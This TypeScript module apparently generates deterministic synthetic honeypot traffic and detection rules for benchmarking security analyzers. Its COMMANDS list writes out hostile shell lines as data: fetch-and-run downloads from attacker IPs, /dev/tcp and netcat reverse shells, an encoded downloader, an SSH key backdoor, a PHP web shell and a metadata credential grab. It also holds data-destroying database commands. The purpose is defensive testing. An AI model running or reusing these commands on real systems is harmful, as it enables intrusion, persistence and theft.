/** Deterministic generators of realistic honeypot traffic for benchmarks (seeded PRNG). */

export function prng(seed: number): () => number {
  let s = seed >>> 0;
  return () => {
    // mulberry32
    s = (s + 0x6d2b79f5) >>> 0;
    let t = s;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const pick = <T>(rnd: () => number, xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)] as T;

const HOSTS = ["45.95.147.236", "185.224.128.17", "194.38.20.199", "103.145.13.4", "dl.bad-cdn.top", "193.35.18.50"];
const FILES = ["x86", "bins.sh", "mips", "arm7", "kinsing", "xmrig", "sshd", ".x/update", "a.sh", "t.pl"];
const DIRS = ["/tmp", "/var/tmp", "/dev/shm", "/root", "/home/admin", "/etc", "/usr/bin", "/var/www/html"];
const USERS = ["root", "admin", "ubuntu", "pi", "oracle", "test", "git", "postgres"];

/** Templates of what attackers (and the odd admin) type into SSH/Telnet honeypots. */
const COMMANDS: readonly ((r: () => number) => string)[] = [
  () => "uname -a",
  () => "uname -s -v -n -r -m",
  () => "cat /proc/cpuinfo | grep name | wc -l",
  () => "lscpu | grep Model",
  () => "nproc",
  () => "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
  () => "whoami",
  () => "id",
  () => "w",
  () => "last",
  (r) => `ls -la ${pick(r, DIRS)}`,
  (r) => `cd ${pick(r, DIRS)}`,
  () => "ps aux | grep -v grep",
  () => "top -bn1 | head",
  () => "ifconfig",
  () => "ip a",
  () => "netstat -antp",
  () => "cat /etc/passwd",
  () => "cat /etc/shadow",
  () => "cat ~/.bash_history",
  () => "crontab -l",
  (r) => `echo "* * * * * curl -fsSL http://${pick(r, HOSTS)}/${pick(r, FILES)} | sh" | crontab -`,
  (r) => `cd /tmp; wget http://${pick(r, HOSTS)}/${pick(r, FILES)}; chmod +x ${pick(r, FILES)}; ./${pick(r, FILES)}`,
  (r) => `curl -s http://${pick(r, HOSTS)}/${pick(r, FILES)} | bash`,
  (r) => `cd /tmp || cd /var/run || cd /mnt; tftp ${pick(r, HOSTS)} -c get ${pick(r, FILES)}; busybox chmod 777 ${pick(r, FILES)}`,
  () => "/bin/busybox ECCHI",
  () => "enable; system; shell; sh",
  (r) => `echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC${Math.floor(r() * 1e9)} mdrfckr" >> ~/.ssh/authorized_keys`,
  () => "chattr -ia .ssh; lockr -ia .ssh",
  (r) => `useradd -m -s /bin/bash ${pick(r, USERS)}2`,
  (r) => `echo "${pick(r, USERS)}:Passw0rd" | chpasswd`,
  (r) => `bash -i >& /dev/tcp/${pick(r, HOSTS)}/4444 0>&1`,
  (r) => `nc -e /bin/sh ${pick(r, HOSTS)} 1337`,
  () => "history -c; rm -rf ~/.bash_history; unset HISTFILE",
  () => "iptables -F; ufw disable; setenforce 0",
  () => "pkill -9 xmrig; pkill -f kdevtmpfsi",
  (r) => `./xmrig -o stratum+tcp://pool.minexmr.com:4444 -u ${Math.floor(r() * 1e12)}`,
  (r) => `echo ${Buffer.from(`wget http://${pick(r, HOSTS)}/a.sh`).toString("base64")} | base64 -d | sh`,
  () => "sudo -l",
  () => "find / -perm -4000 -type f 2>/dev/null",
  () => "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
  () => "echo '<?php @eval($_POST[\"x\"]) ?>' > /var/www/html/x.php",
  () => "export PATH=$PATH:/usr/local/bin",
  () => "echo ok",
  () => "exit",
  () => "df -h",
  () => "apt-get update",
  () => "docker ps",
  (r) => `ping -c 1 ${pick(r, HOSTS)}`,
];

export interface BenchEvent {
  source_kind: string;
  source_id: string;
  attacker_uuid: string;
  session_id: string;
  payload: Record<string, unknown>;
}

export function commandEvents(n: number, seed = 42): BenchEvent[] {
  const rnd = prng(seed);
  const out: BenchEvent[] = [];
  for (let i = 0; i < n; i++) {
    out.push({
      source_kind: "command",
      source_id: `cmd_${i}`,
      attacker_uuid: `att-${Math.floor(rnd() * 5000)}`,
      session_id: `s-${Math.floor(i / 12)}`,
      payload: { command_text: pick(rnd, COMMANDS)(rnd), uid: 0, user: "root", src: pick(rnd, HOSTS), pwd: pick(rnd, DIRS) },
    });
  }
  return out;
}

/** `count` pattern rules in the DECNET style, each with its own distinctive token. */
export function generatedRuleYamls(count: number, seed = 7): string[] {
  const rnd = prng(seed);
  const verbs = ["wget", "curl", "tftp", "nc", "python3", "perl", "chmod", "busybox", "bash", "sh", "crontab", "useradd"];
  const out: string[] = [];
  for (let i = 0; i < count; i++) {
    const id = `G${String(i).padStart(5, "0")}`;
    const verb = pick(rnd, verbs);
    const shape = i % 4;
    const pattern =
      shape === 0
        ? `(?i)\\b${verb}\\s+[^\\n;|]*tool${i}\\b`
        : shape === 1
          ? `\\b(?:${verb}|x${i})\\s+-[a-z]{1,3}\\s+\\S*payload${i}`
          : shape === 2
            ? `(?i)(?:/tmp|/dev/shm)/[a-z0-9._-]*k${i}(?=\\s|;|$)`
            : `\\b${verb}\\b.*\\bmarker${i}\\b`;
    out.push(
      [
        `rule_id: ${id}`,
        "rule_version: 1",
        `name: generated_${i}`,
        "applies_to: [command]",
        "match:",
        `  pattern: '${pattern}'`,
        "emits:",
        "  - technique_id: T1059",
        "    sub_technique_id: T1059.004",
        "    tactic: TA0002",
        `    confidence: ${(0.3 + rnd() * 0.6).toFixed(2)}`,
        "evidence_fields: [command_text]",
        "",
      ].join("\n"),
    );
  }
  return out;
}

/** Commands that sometimes hit the generated rules (tokens tool<i>, payload<i>, k<i>, marker<i>). */
export function generatedRuleEvents(n: number, ruleCount: number, seed = 9): BenchEvent[] {
  const rnd = prng(seed);
  const base = commandEvents(n, seed);
  for (const e of base) {
    if (rnd() < 0.3) {
      const i = Math.floor(rnd() * ruleCount);
      const token = pick(rnd, [`wget -q http://h/tool${i}`, `curl -sO /x/payload${i}`, `/tmp/k${i} ;`, `bash run marker${i}`]);
      e.payload.command_text = `${String(e.payload.command_text)}; ${token}`;
    }
  }
  return base;
}

// ---- (d) mixed honeypot traffic for the analyzer rules (bench/engine.ts figure (d)) ------------

/** A pick weighted by `w` (same length as `xs`). */
function weighted<T>(rnd: () => number, xs: readonly T[], w: readonly number[]): T {
  let total = 0;
  for (const x of w) total += x;
  let r = rnd() * total;
  for (let i = 0; i < xs.length; i++) {
    r -= w[i] as number;
    if (r < 0) return xs[i] as T;
  }
  return xs[xs.length - 1] as T;
}

const int = (rnd: () => number, lo: number, hi: number): number => lo + Math.floor(rnd() * (hi - lo + 1));
const chance = (rnd: () => number, p: number): boolean => rnd() < p;
const hex = (rnd: () => number, n: number): string => {
  let s = "";
  for (let i = 0; i < n; i++) s += "0123456789abcdef"[Math.floor(rnd() * 16)];
  return s;
};
const ipv4 = (rnd: () => number): string => `${int(rnd, 1, 223)}.${int(rnd, 0, 255)}.${int(rnd, 0, 255)}.${int(rnd, 1, 254)}`;
const isoAt = (rnd: () => number): string => new Date(Date.UTC(2026, 5, 1) + Math.floor(rnd() * 30 * 86_400_000)).toISOString().replace(/\.\d{3}Z$/, "Z");

/** Source kinds of figure (d) and their share of the traffic (per 100 events). */
export const MIXED_KIND_WEIGHTS: Readonly<Record<string, number>> = Object.freeze({
  session: 22,
  http_request: 22,
  auth_attempt: 18,
  intel: 10,
  email: 8,
  canary_fingerprint: 6,
  credential: 5,
  ipv6_leak: 5,
  identity: 4,
});

const SERVICES = ["ssh", "telnet", "redis", "mysql", "mongodb", "elasticsearch", "http", "smb", "tftp", "docker"] as const;
const REDIS_OPS = ["INFO", "CONFIG GET dir", "KEYS *", "GET session:1", "SET x 1", "CONFIG SET dir /var/spool/cron", "SLAVEOF 185.224.128.17 6379", "MODULE LOAD /tmp/exp.so", "DBSIZE"];
const MYSQL_OPS = ["SELECT @@version", "SHOW DATABASES", "SELECT user,host FROM mysql.user", "SELECT * FROM customers LIMIT 50", "USE shop", "SHOW TABLES"];
const MONGO_OPS = ["db.adminCommand({listDatabases:1})", "db.getCollectionNames()", "db.users.find().limit(20)", "db.serverStatus()"];
const ES_OPS = ["GET /_cat/indices?v", "GET /_cluster/health", "GET /_search?q=password", "GET /_nodes"];
const TFTP_FILES = ["x86", "mips", "arm7", "bins.sh", "tftp1.sh", "mpsl", "dlr.arm", "Mozi.m"];
const HTTP_PATHS = [
  "/", "/", "/", "/favicon.ico", "/robots.txt", "/index.html", "/login", "/admin/", "/sitemap.xml", "/.well-known/security.txt",
  "/static/js/app.js", "/api/v1/status", "/owa/auth/logon.aspx", "/manager/html", "/server-status", "/console/", "/actuator/health",
  "/phpmyadmin/index.php", "/solr/admin/info/system", "/cgi-bin/luci/;stok=/locale", "/remote/login", "/ecp/Current/exporttool/",
  "/wp-login.php", "/.env", "/.git/config", "/boaform/admin/formLogin", "/HNAP1/", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
  "/api/v1/namespaces/default/secrets", "/?XDEBUG_SESSION_START=phpstorm",
];
const HTTP_PATH_WEIGHTS = [30, 10, 10, 40, 25, 20, 15, 12, 8, 4, 6, 6, 5, 4, 4, 3, 5, 4, 2, 3, 3, 2, 6, 4, 3, 2, 2, 2, 1, 1];
const USER_AGENTS = [
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
  "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
  "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
  "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
  "curl/8.5.0",
  "python-requests/2.31.0",
  "Go-http-client/1.1",
  "zgrab/0.x",
];
const UA_WEIGHTS = [40, 15, 12, 8, 5, 6, 6, 5, 3];
const USERNAMES = ["root", "admin", "user", "test", "ubuntu", "pi", "oracle", "postgres", "support", "guest", "jdoe", "webmaster", "deployer", "sysadmin", "nginx", "ftpuser", "user1", "alex", "backup", "service"];
const USERNAME_WEIGHTS = [26, 10, 4, 3, 3, 2, 2, 2, 2, 2, 6, 5, 5, 5, 5, 5, 5, 4, 4, 3];
const PASSWORDS = ["123456", "password", "root", "admin", "12345678", "qwerty", "1qaz2wsx", "P@ssw0rd", "raspberry", "", "toor", "changeme", "Winter2026!", "letmein", "abc123"];
const WORDS = (
  "the a to of and for your account please our we you this is in on with that as be at from by has have will can new may offer " +
  "delivery order update payment team support customer service regarding attached document meeting schedule report review today " +
  "week month thanks regards kind best hello dear friend opportunity free limited time click link below information request access"
).split(" ");
const SUBJECTS = ["Re: meeting notes", "Your order has shipped", "Invoice 20931 attached", "Weekly report", "Action required: verify your account", "Hello", "Urgent: payment overdue", "Delivery failed", "Newsletter June", "Quote request", "Payroll update", "You have a new voicemail"];
const SUBJECT_WEIGHTS = [10, 8, 6, 8, 6, 10, 4, 6, 8, 6, 3, 5];
const DOMAINS = ["gmail.com", "outlook.com", "mail.ru", "qq.com", "corp-mail.example", "newsletter.example", "shop.example", "bulk-sender.example", "yahoo.co.jp", "bank-secure.example"];
const MAILERS = ["Microsoft Outlook 16.0", "PHPMailer 6.8.1", "Apple Mail (2.3774)", "Thunderbird 115.10", "Swift Mailer", "Mozilla/5.0"];
const GN_TAGS = ["ssh_bruteforcer", "web_crawler", "tor_exit_node", "mirai", "zmap_client", "telnet_worm", "cobalt_strike", "smb_scanner", "log4j_attempt", "generic_scanner"];
const BTC_ADDR = "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa";

function prose(rnd: () => number, words: number): string {
  const out: string[] = [];
  for (let i = 0; i < words; i++) out.push(pick(rnd, WORDS));
  return out.join(" ");
}

function sessionPayload(rnd: () => number, i: number): Record<string, unknown> {
  const service = pick(rnd, SERVICES);
  const p: Record<string, unknown> = {
    session_id: `s-${i}`,
    service,
    src_ip: ipv4(rnd),
    duration_s: int(rnd, 1, 900),
    bytes_in: int(rnd, 200, 40_000),
    bytes_out: int(rnd, 100, 60_000),
    command_count: int(rnd, 0, 40),
    started_at: isoAt(rnd),
  };
  if (chance(rnd, 0.6)) {
    const low = chance(rnd, 0.04);
    p.beacon_interval_s = low ? int(rnd, 30, 300) : int(rnd, 0, 600);
    p.beacon_jitter_pct = low ? Number((rnd() * 0.1).toFixed(3)) : Number((0.2 + rnd() * 2).toFixed(3));
  }
  switch (service) {
    case "redis":
      p.op_text = chance(rnd, 0.05) ? "FLUSHALL" : pick(rnd, REDIS_OPS);
      break;
    case "mysql":
      p.op_text = chance(rnd, 0.04) ? "DROP DATABASE shop" : pick(rnd, MYSQL_OPS);
      p.rows_read = chance(rnd, 0.05) ? int(rnd, 10_000, 500_000) : int(rnd, 0, 300);
      p.bytes_read = int(rnd, 0, 200_000);
      break;
    case "mongodb":
      p.op_text = chance(rnd, 0.04) ? "db.dropDatabase()" : pick(rnd, MONGO_OPS);
      break;
    case "elasticsearch":
      p.op_text = chance(rnd, 0.04) ? "DELETE /_all" : pick(rnd, ES_OPS);
      break;
    case "http":
      p.request_count = chance(rnd, 0.03) ? int(rnd, 50, 400) : int(rnd, 1, 30);
      if (chance(rnd, 0.02)) p.bytes_out = int(rnd, 1_048_576, 20_000_000);
      p.request_path = weighted(rnd, HTTP_PATHS, HTTP_PATH_WEIGHTS);
      p.target_host = `${pick(rnd, ["api", "files", "upload"])}.${pick(rnd, DOMAINS)}`;
      break;
    case "tftp":
      p.tftp_filename = chance(rnd, 0.1) ? pick(rnd, ["router-confg", "startup-config", "sw1.cfg"]) : pick(rnd, TFTP_FILES);
      p.source_host = ipv4(rnd);
      break;
    case "docker":
      p.container_image = pick(rnd, ["alpine", "ubuntu:22.04", "nginx", "busybox"]);
      p.signals = chance(rnd, 0.08) ? [`image:${String(p.container_image)}`, pick(rnd, ["privileged:true", "bind:/:/", "bind:/var/run/docker.sock"])] : [`image:${String(p.container_image)}`, "cmd:sh"];
      break;
    case "smb":
      p.llmnr_poisoned = chance(rnd, 0.05);
      p.llmnr_poison_count = p.llmnr_poisoned ? int(rnd, 1, 9) : 0;
      if (p.llmnr_poisoned) p.poisoned_query = pick(rnd, ["wpad", "fileserver", "printer01"]);
      p.victim_host = `ws-${int(rnd, 1, 99)}`;
      break;
    default:
      if (chance(rnd, 0.3)) p.command_text = pick(rnd, ["uname -a", "cat /proc/cpuinfo", "id", "wget http://45.95.147.236/x86", "history -c"]);
  }
  return p;
}

function httpPayload(rnd: () => number): Record<string, unknown> {
  const path = weighted(rnd, HTTP_PATHS, HTTP_PATH_WEIGHTS);
  const query = chance(rnd, 0.15) ? `?${pick(rnd, ["id", "page", "q", "lang"])}=${int(rnd, 1, 999)}` : "";
  return {
    method: weighted(rnd, ["GET", "POST", "HEAD", "OPTIONS"], [80, 12, 6, 2]),
    raw_url: path + query,
    request_path: path,
    host: ipv4(rnd),
    user_agent: weighted(rnd, USER_AGENTS, UA_WEIGHTS),
    status: weighted(rnd, [200, 301, 404, 403, 401], [30, 5, 50, 10, 5]),
    src_port: int(rnd, 1024, 65535),
    bytes: int(rnd, 0, 20_000),
  };
}

function authPayload(rnd: () => number): Record<string, unknown> {
  const success = chance(rnd, 0.03);
  const p: Record<string, unknown> = {
    username: weighted(rnd, USERNAMES, USERNAME_WEIGHTS),
    password: pick(rnd, PASSWORDS),
    service: weighted(rnd, ["ssh", "telnet", "ftp", "smb", "rdp"], [60, 25, 7, 4, 4]),
    result: success ? "success" : "fail",
    src_ip: ipv4(rnd),
    client_version: pick(rnd, ["SSH-2.0-libssh_0.9.6", "SSH-2.0-Go", "SSH-2.0-OpenSSH_8.9p1", "SSH-2.0-PuTTY_Release_0.80"]),
    fail_count: chance(rnd, 0.1) ? int(rnd, 5, 400) : int(rnd, 1, 4),
    password_count: chance(rnd, 0.05) ? int(rnd, 5, 60) : int(rnd, 1, 3),
  };
  if (success) p.prior_brute = chance(rnd, 0.5);
  return p;
}

function emailPayload(rnd: () => number, i: number): Record<string, unknown> {
  const fromDomain = pick(rnd, DOMAINS);
  const spoof = chance(rnd, 0.12);
  const mass = chance(rnd, 0.05);
  const rcpt = mass ? int(rnd, 30, 400) : int(rnd, 1, 3);
  const rcptDomains: string[] = [];
  for (let k = 0; k < Math.min(rcpt, 6); k++) rcptDomains.push(pick(rnd, ["victim.example", "corp.example", "Mail.Example", "hr.corp.example"]));
  let body = prose(rnd, int(rnd, 40, 260));
  const urls: string[] = [];
  for (let k = int(rnd, 0, 4); k > 0; k--) urls.push(`https://${pick(rnd, DOMAINS)}/${pick(rnd, ["track", "u", "login", "unsubscribe"])}/${hex(rnd, 12)}`);
  if (chance(rnd, 0.02)) urls.push(`https://xn--${hex(rnd, 8)}.com/login`);
  if (chance(rnd, 0.01)) body += ` Your files are locked. Send 0.05 bitcoin to ${BTC_ADDR} to decrypt.`;
  if (chance(rnd, 0.02)) body += `\n\n${Buffer.alloc(6000, i & 0xff).toString("base64")}\n`;
  const p: Record<string, unknown> = {
    message_id: `<${hex(rnd, 16)}@${fromDomain}>`,
    subject: weighted(rnd, SUBJECTS, SUBJECT_WEIGHTS),
    from: `${pick(rnd, ["info", "no-reply", "billing", "ceo", "support"])}@${fromDomain}`,
    from_domain: fromDomain,
    mail_from: `bounce@${spoof ? pick(rnd, DOMAINS) : fromDomain}`,
    mail_from_domain: spoof ? pick(rnd, DOMAINS) : fromDomain,
    return_path_domain: spoof && chance(rnd, 0.5) ? pick(rnd, DOMAINS) : fromDomain,
    rcpt_count: rcpt,
    rcpt_domains: rcptDomains,
    body_text: body,
    body_simhash: hex(rnd, 16),
    urls,
    x_mailer: pick(rnd, MAILERS),
    dkim_signed: !chance(rnd, 0.08),
    spf_pass: !chance(rnd, 0.06),
    size_bytes: body.length + int(rnd, 800, 4000),
    decky_id: `decky-${int(rnd, 1, 12)}`,
    stored_as: `${isoAt(rnd)}_${hex(rnd, 12)}_msg.eml`,
  };
  if (chance(rnd, 0.15)) {
    p.attachment_extensions = [pick(rnd, ["pdf", "docx", "xlsx", "zip", "png", "lnk", "iso"])];
    p.attachment_sha256s = [hex(rnd, 64)];
    p.attachment_macros = chance(rnd, 0.05);
  }
  if (chance(rnd, 0.02)) p.matched_kit = "kit-16shop";
  return p;
}

function intelPayload(rnd: () => number, attacker: string): Record<string, unknown> {
  const known = chance(rnd, 0.6);
  const cats = [14, 15, 18, 19, 21, 22, 7, 11, 9, 20, 4, 10];
  const categories: number[] = [];
  if (known) for (let k = int(rnd, 1, 3); k > 0; k--) categories.push(pick(rnd, cats));
  const gn = weighted(rnd, ["unknown", "benign", "malicious", "scanner"], [45, 10, 25, 20]);
  const tags: string[] = [];
  if (gn === "malicious" || gn === "scanner") for (let k = int(rnd, 0, 2); k > 0; k--) tags.push(pick(rnd, GN_TAGS));
  const feodo = chance(rnd, 0.02);
  const tf = chance(rnd, 0.04);
  return {
    attacker_uuid: attacker,
    attacker_ip: ipv4(rnd),
    aggregate_verdict: known ? pick(rnd, ["malicious", "suspicious"]) : "unknown",
    abuseipdb_score: known ? int(rnd, 10, 100) : 0,
    abuseipdb_categories: categories,
    greynoise_classification: gn,
    greynoise_name: gn === "benign" ? pick(rnd, ["Googlebot", "Censys", "Shodan.io"]) : null,
    greynoise_tags: tags,
    feodo_listed: feodo,
    feodo_malware_family: feodo ? pick(rnd, ["Emotet", "QakBot", "Dridex"]) : null,
    threatfox_listed: tf,
    threatfox_threat_types: tf ? [pick(rnd, ["botnet_cc", "payload_delivery", "payload"])] : [],
    threatfox_ioc_types: tf ? [pick(rnd, ["ip:port", "url", "domain"])] : [],
    threatfox_malware_families: tf ? [pick(rnd, ["Mirai", "AsyncRAT", "Sliver"])] : [],
    providers: ["abuseipdb", "greynoise", "feodo", "threatfox"],
  };
}

function canaryPayload(rnd: () => number): Record<string, unknown> {
  const bot = chance(rnd, 0.08);
  return {
    token_id: `tok-${hex(rnd, 10)}`,
    ua_signature: bot ? "HeadlessChrome/124.0.0.0" : weighted(rnd, USER_AGENTS, UA_WEIGHTS),
    navigator_webdriver: bot && chance(rnd, 0.6),
    navigator_platform: pick(rnd, ["Win32", "MacIntel", "Linux x86_64", "iPhone"]),
    webgl_renderer: pick(rnd, ["ANGLE (Intel, Intel(R) UHD Graphics 620)", "Apple M2", "Mesa Intel(R) Xe Graphics", "SwiftShader"]),
    canvas_hash: hex(rnd, 32),
    audio_hash: hex(rnd, 16),
    canvas_audio_hash_match: bot && chance(rnd, 0.4) ? pick(rnd, ["puppeteer", "playwright", "selenium"]) : null,
    webrtc_geo_mismatch: chance(rnd, 0.03),
    tz_mismatch_zones: chance(rnd, 0.04) ? int(rnd, 3, 10) : int(rnd, 0, 2),
    lang_country_mismatch: chance(rnd, 0.03),
    platform_ua_inconsistent: chance(rnd, 0.02),
    ua_webgl_mismatch: chance(rnd, 0.02),
    browser_timezone: pick(rnd, ["Europe/Berlin", "America/New_York", "Asia/Shanghai", "UTC"]),
    source_country: pick(rnd, ["DE", "US", "CN", "NL", "RU", "BR"]),
  };
}

export interface MixedEvent {
  source_kind: string;
  source_id: string;
  attacker_uuid: string | null;
  identity_uuid?: string | null;
  session_id: string | null;
  decky_id: string | null;
  payload: Record<string, unknown>;
}

/**
 * `n` events of a honeypot network's analyzer-bound traffic (figure (d)): sessions, HTTP
 * requests, login attempts, intel catch-ups, e-mails, canary fingerprints, credential reuse,
 * IPv6 leaks and identities, in MIXED_KIND_WEIGHTS proportions, with the field sets their
 * producers send. Most events fire nothing; a few per cent of each kind are attacks the
 * analyzers recognise. Deterministic for a seed.
 */
export function mixedEvents(n: number, seed = 2026): MixedEvent[] {
  const rnd = prng(seed);
  const kinds = Object.keys(MIXED_KIND_WEIGHTS);
  const weights = kinds.map((k) => MIXED_KIND_WEIGHTS[k] as number);
  const out: MixedEvent[] = [];
  for (let i = 0; i < n; i++) {
    const kind = weighted(rnd, kinds, weights);
    const attacker = `att-${int(rnd, 0, 4999)}`;
    const ev: MixedEvent = { source_kind: kind, source_id: `${kind}-${i}`, attacker_uuid: attacker, session_id: `s-${Math.floor(i / 8)}`, decky_id: `decky-${int(rnd, 1, 12)}`, payload: {} };
    switch (kind) {
      case "session":
        ev.payload = sessionPayload(rnd, i);
        break;
      case "http_request":
        ev.payload = httpPayload(rnd);
        break;
      case "auth_attempt":
        ev.payload = authPayload(rnd);
        break;
      case "intel":
        ev.source_id = `intel-catchup:s-${i}`;
        ev.payload = intelPayload(rnd, attacker);
        break;
      case "email":
        ev.payload = emailPayload(rnd, i);
        break;
      case "canary_fingerprint":
        ev.payload = canaryPayload(rnd);
        break;
      case "credential":
        ev.payload = { credential_id: `cred-${i}`, credential_hash: `sha256:${hex(rnd, 64)}`, reuse_count: chance(rnd, 0.2) ? int(rnd, 1, 6) : 0, service: pick(rnd, ["ssh", "ftp", "http"]), first_seen: isoAt(rnd) };
        break;
      case "identity": {
        const identity = `id-${int(rnd, 0, 999)}`;
        ev.identity_uuid = identity;
        ev.attacker_uuid = null;
        ev.payload = { identity_uuid: identity, shared_password_hash: `sha256:${hex(rnd, 64)}`, account_count: chance(rnd, 0.15) ? int(rnd, 3, 14) : int(rnd, 1, 2), attacker_count: int(rnd, 1, 5) };
        break;
      }
      case "ipv6_leak": {
        const local = chance(rnd, 0.2);
        ev.payload = {
          addr: local ? `fe80::${hex(rnd, 4)}:${hex(rnd, 2)}ff:fe${hex(rnd, 2)}:${hex(rnd, 4)}` : `2001:db8:${hex(rnd, 4)}::${hex(rnd, 4)}`,
          mac_oui: `${hex(rnd, 2)}:${hex(rnd, 2)}:${hex(rnd, 2)}`,
          iid_kind: pick(rnd, ["eui64", "random", "stable_privacy"]),
          vector: pick(rnd, ["mdns", "llmnr", "dhcpv6", "ndp"]),
          on_iface: pick(rnd, ["eth0", "ens3"]),
          attacker_ip: ipv4(rnd),
          observed_at: isoAt(rnd),
        };
        break;
      }
    }
    out.push(ev);
  }
  return out;
}

/** Repeats `unit` to exactly `size` characters. */
function fillTo(unit: string, size: number): string {
  return unit.repeat(Math.ceil(size / unit.length)).slice(0, size);
}

/**
 * The adversarial sub-corpus of figure (d): payloads of at most 64 KiB (JSON) crafted against the
 * analyzers' scans — e-mail bodies full of base64-alphabet runs and near-miss BTC/XMR words,
 * long URL lists with `xn--` late, 64 KiB op_text/command_text against R0032's patterns, long
 * paths, huge signal/tag/category/keyword lists, long header values. Deterministic.
 */
export function adversarialMixedEvents(maxBytes = 64 * 1024): { label: string; event: MixedEvent }[] {
  const S = maxBytes - 1024; // room for the other keys of the payload
  const out: { label: string; event: MixedEvent }[] = [];
  let i = 0;
  const add = (label: string, source_kind: string, payload: Record<string, unknown>, ids: Partial<MixedEvent> = {}): void => {
    const size = Buffer.byteLength(JSON.stringify(payload), "utf8");
    if (size > maxBytes) throw new Error(`adversarial event ${label} is ${size} bytes (> ${maxBytes})`);
    out.push({ label, event: { source_kind, source_id: `adv-${i++}`, attacker_uuid: "att-adv", session_id: null, decky_id: null, payload, ...ids } });
  };
  /** As many elements of `make(k)` as fit in `budget` bytes of JSON. */
  const upTo = <T>(make: (k: number) => T, budget = S): T[] => {
    const out: T[] = [];
    let bytes = 2;
    for (let k = 0; ; k++) {
      const v = make(k);
      bytes += Buffer.byteLength(JSON.stringify(v), "utf8") + 1;
      if (bytes > budget) return out;
      out.push(v);
    }
  };
  const near34 = (k: number) => `1${fillTo("A1zP1eP5QGefi2DMPTfTL5SLmv7Div", 32)}${k % 2 === 0 ? "l" : "0"}`; // base58 but for the last character
  const nearXmr = `4A${fillTo("x", 92)}0`; // 95 characters, 0 is not base58
  const b64Words = (len: number, sep: string) => fillTo(fillTo("QUJDREVGR0hJSktMTU5PUFFSU1RVVldY", len) + sep, S);
  // e-mail bodies
  add("email: 31-char base64 runs + bitcoin keyword", "email", { subject: "urgent", body_text: `bitcoin ${b64Words(31, " ")}` });
  add("email: 32-char base64 runs (each decodes, too short)", "email", { subject: "invoice", body_text: fillTo(b64Words(32, "\n"), Math.floor((S * 33) / 34)) });
  add("email: one 64 KiB base64 run, n mod 4 = 1", "email", { body_text: fillTo("QUJD", S - 3) + "Q" });
  add("email: one base64 run with == after n mod 4 = 3", "email", { body_text: `${fillTo("QUJD", S - 5)}QUJ==` });
  add("email: near-miss BTC words + ransom keywords", "email", { subject: "files", body_text: fillTo(`${near34(0)} ${near34(1)} btc decrypt `, S) });
  add("email: near-miss XMR words + monero", "email", { body_text: fillTo(`${nearXmr} monero `, S) });
  add("email: near-miss BTC words, Unicode letters between", "email", { body_text: fillTo(`é${near34(0)}ß bitcoin `, Math.floor((S * 44) / 46)) });
  add("email: subject keyword, body of near-miss action words", "email", { subject: fillTo("urgent payroll ", 16_000), body_text: fillTo("sen transfe updat bankin confidentia ", S - 16_000) });
  add("email: ~2,000 URLs, xn-- in the last one", "email", { urls: [...upTo((k) => `https://cdn${k}.example/a/${k}`, S - 40), "https://xn--80ak6aa92e.com/"] });
  add("email: ~2,000 URLs with xn- near misses", "email", { urls: upTo((k) => `https://xn-${k}.example/xn-/q`) });
  add("email: ~4,000 distinct rcpt_domains, relay + mass phish fire", "email", {
    rcpt_count: 4000, body_simhash: "ab", from_domain: "a.example", mail_from_domain: "b.example",
    rcpt_domains: upTo((k) => `d${(k * 7919) % 9973}.Example`),
  });
  add("email: rcpt_domains as a 60 KiB string", "email", { rcpt_count: 40, body_simhash: 1, rcpt_domains: fillTo("abcdefghij.", S) });
  add("email: ~6,000 attachment extensions, none a trigger", "email", { attachment_extensions: upTo(() => ".exe", S - 11_000), attachment_sha256s: upTo((k) => fillTo(String(k), 64), 10_000) });
  add("email: 60 KiB From with a whitespace run", "email", { from_domain: `a${" ".repeat(S - 2)}b`, return_path_domain: "b.example", rcpt_count: 20, mail_from_domain: "c.example" });
  add("email: 60 KiB From of @ signs", "email", { from_domain: fillTo("@", S - 2000), return_path_domain: fillTo("@x", 1500) });
  add("email: 60 KiB body with BTC address at the end", "email", { body_text: `${fillTo("pay bitcoin now ", S - 40)} ${BTC_ADDR}` });
  // sessions: R0032 patterns, paths, signals, beacons, tftp
  add("session: 64 KiB op_text of DROP near misses", "session", { op_text: fillTo("DROP DATABAS DROP\tDATABAS ", S - 3000) });
  add("session: op_text DROP + 60 KiB whitespace", "session", { op_text: `DROP${fillTo(" \t", Math.floor(S / 1.5) - 10)}DATABAS` });
  add("session: 64 KiB command_text of DELETE /_al and TRUNCATE TABL", "session", { op_text: "", command_text: fillTo("DELETE /_al TRUNCATE  TABL dropDatabase( FLUSHAL ", S) });
  add("session: 64 KiB path of .en / .git/confi near misses", "session", { path: fillTo("/.en/.git/confi/.aws/credential/.ssh/id_rs/wp-config.ph", S) });
  add("session: /api/v1/namespaces/ + 60 KiB without /secrets", "session", { matched_path: `/api/v1/namespaces/${fillTo("x", S - 40)}` });
  add("session: ~5,000 near-miss container signals", "session", { signals: upTo((k) => `bind:/etc${k % 10}`) });
  add("session: 64 KiB tftp_filename ending -confgx", "session", { tftp_filename: `${fillTo("-confg", S - 1)}x` });
  add("session: ransom note near misses in note_text", "session", { note_text: fillTo(`${near34(1)} ransom `, S) });
  // http_request (the pack's pattern rules read raw_url and user_agent too)
  add("http_request: 64 KiB path/URL of near misses", "http_request", { request_path: fillTo("/.en%2e%2e/api/v1/namespaces//secret", S / 2), raw_url: fillTo("/.en%2e%2e/..;/etc/passw", S / 2 - 100), user_agent: "Mozilla/5.0" });
